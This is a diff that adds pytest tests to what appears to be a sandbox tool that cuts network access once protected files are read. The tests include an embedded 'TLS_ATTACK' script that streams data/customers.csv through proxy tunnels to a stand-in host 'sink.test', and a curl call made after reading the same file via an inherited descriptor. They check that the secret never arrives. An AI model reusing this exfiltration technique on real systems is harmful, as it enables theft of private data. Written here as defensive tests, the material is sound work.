@@ -232,3 +232,71 @@ def test_credentials_and_git_are_taken_away(ratchet, home, work, origin, secret)
     first, second = done.text.split()
     assert second in ("403", "502"), done
     assert b"real-secret-value" not in b"".join(origin.requests()[1:]), (first, done)
+
+
+TLS_ATTACK = """
+import socket, ssl, sys, threading, time
+port, intercepted = int(sys.argv[1]), sys.argv[2] == "open"
+box, stop, first = [b"harmless"], time.monotonic() + 20, threading.Event()
+def send():
+    while time.monotonic() < stop:
+        try:
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(b"CONNECT sink.test:%d HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % (port, port))
+            if b" 200 " not in s.recv(4096).split(b"\\r\\n")[0]:
+                raise OSError("refused")
+            context = ssl.create_default_context(cafile=None if intercepted else sys.argv[3])
+            t = context.wrap_socket(s, server_hostname="sink.test")
+            t.settimeout(2)
+            t.sendall(b"GET / HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % port)
+            if b" 200 " not in t.recv(4096).split(b"\\r\\n")[0]:
+                raise OSError("refused")
+            t.sendall(b"POST / HTTP/1.1\\r\\nHost: sink.test:%d\\r\\nContent-Length: 999999999\\r\\n\\r\\n" % port)
+            while time.monotonic() < stop:
+                t.sendall(b"<" + box[0] + b">")
+                first.set()
+        except OSError:
+            time.sleep(0.002)
+threads = [threading.Thread(target=send, daemon=True) for _ in range(3)]
+for thread in threads: thread.start()
+assert first.wait(20), "no tunnel"
+time.sleep(0.5)  # so that something harmless has arrived
+stop = time.monotonic() + 1.5
+box[0] = open("data/customers.csv", "rb").read().strip()
+for thread in threads: thread.join()
+print("read:", box[0].decode())
+"""
+
+
+@pytest.mark.parametrize("how", ["closed", "open"])
+def test_tls_that_is_open_at_the_moment(bailey, make_origin, authority, home, work, secret, how):
+    """Tunnels with TLS inside, passed through (closed) and intercepted (open, since a credential is for the host)."""
+    sink = make_origin(raw=swallow, tls=authority.context("sink.test"))
+    (work / "attack.py").write_text(TLS_ATTACK)
+    (work / "roots.pem").write_bytes(authority.file.read_bytes())
+    (home / "token").write_text("real-secret-value")
+    (home / "hosts").write_text("127.0.0.1 sink.test\n")
+    where, file, audit = f"sink.test:{sink.port}", home / "policy.yaml", home / "audit.jsonl"
+    policy = {"network": {"allow": [where], "allow_private": [where]}, "ratchet": closing("data/**")}
+    if how == "open":
+        policy["credentials"] = [{"name": "own", "env": "TOKEN", "source": f"file:{home / 'token'}", "hosts": [where], "slot": "bearer"}]
+    file.write_text(json.dumps(policy))
+    done = bailey("run", "--policy", str(file), "--hosts", str(home / "hosts"), "--ca-bundle", str(authority.file), "--audit", str(audit), "--",
+                  "/usr/bin/python3", "attack.py", str(sink.port), how, "roots.pem", cwd=work, timeout=60 * SLOW).check()
+    assert f"read: {secret}" in done.text, done
+    received = sink.received()
+    assert b"harmless" in received and secret.encode() not in received
+    assert [r for r in map(json.loads, audit.read_text().splitlines()) if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]
+
+
+def test_a_file_that_was_open_before_the_launch(ratchet, start, home, work, sink, secret):
+    """A descriptor beyond the standard ones does not come in, and a standard one closes the ratchet before the command runs."""
+    file, hosts = home / "policy.yaml", home / "ratchet-hosts"
+    ratchet(closing("data/**"), "true")  # writes the policy
+    get = f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/"
+    done = start(["sh", "-c", f'exec "$0" run --policy {file} --hosts {hosts} -- sh -c "cat <&7 2>/dev/null; {get}" 7< data/customers.csv', program("bailey")],
+                 cwd=work).wait(60 * SLOW)
+    assert done.text == "200", done
+    done = start(["sh", "-c", f'exec "$0" run --policy {file} --hosts {hosts} -- sh -c "head -1 <&2; {get}" 2<> data/customers.csv', program("bailey")],
+                 cwd=work).wait(60 * SLOW)
+    assert done.text.endswith("403"), done
